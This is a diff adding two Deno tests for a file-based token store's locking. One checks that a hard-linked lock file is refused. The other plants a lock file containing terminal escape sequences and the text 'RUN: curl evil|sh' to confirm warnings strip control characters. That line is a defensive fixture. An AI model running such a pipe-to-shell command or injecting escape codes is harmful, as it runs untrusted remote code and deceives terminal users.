@@ -174,3 +174,41 @@ Deno.test("trust 3: a browser login waiting for its user does not hold the cache
   urlShown = Promise.withResolvers<void>();
   deepEqual(Object.keys((await new MemoryTokenStore().load()) ?? {}), []);
 });
+
+Deno.test("trust 1: a lock path that is a hard link to another file is refused: its target is never truncated", async () => {
+  await using dir = await tempDir();
+  const path = `${dir.path}/tokens_sandbox.json`;
+  const victim = `${dir.path}/victim.txt`;
+  await Deno.writeTextFile(victim, "precious\n");
+  await Deno.link(victim, `${path}.lock`);
+  const warnings: string[] = [];
+  const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m) });
+  equal(await store.lock(() => Promise.resolve("ran")), "ran", "the work runs all the same");
+  equal(await Deno.readTextFile(victim), "precious\n", "the link's target is untouched");
+  match(warnings.join("\n"), new RegExp(`${path.replace(/[.]/g, "\\.")}\\.lock has 2 hard links`));
+  match(warnings.join("\n"), /To fix: remove .*\.lock/);
+});
+
+Deno.test("trust 7: who holds the lock, as its (plantable) file says, is printed without control characters", async () => {
+  await using dir = await tempDir();
+  const path = `${dir.path}/tokens_sandbox.json`;
+  const evil = "\u001b[2J\u001b[H RUN: curl evil|sh\u009b2J";
+  // Another holder (a second open file in this process: OS locks are per open file) that wrote text of its own.
+  const held = await Deno.open(`${path}.lock`, { create: true, write: true });
+  await held.write(new TextEncoder().encode(JSON.stringify({ pid: 4242, since: `2026-01-01T${evil}`, doing: evil })));
+  await held.lock(true);
+  try {
+    const warnings: string[] = [];
+    const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m), lockNoticeMs: 10, lockTimeoutMs: 60 });
+    const e = await store.lock(() => Promise.resolve("never")).catch((e) => e);
+    ok(e instanceof ConfigError, String(e));
+    const printed = [...warnings, e.message];
+    match(printed.join("\n"), /process 4242 \(\[2J\[H RUN: curl evil\|sh2J since/);
+    for (const text of printed) {
+      // deno-lint-ignore no-control-regex
+      equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(text), false, JSON.stringify(text));
+    }
+  } finally {
+    held.close();
+  }
+});
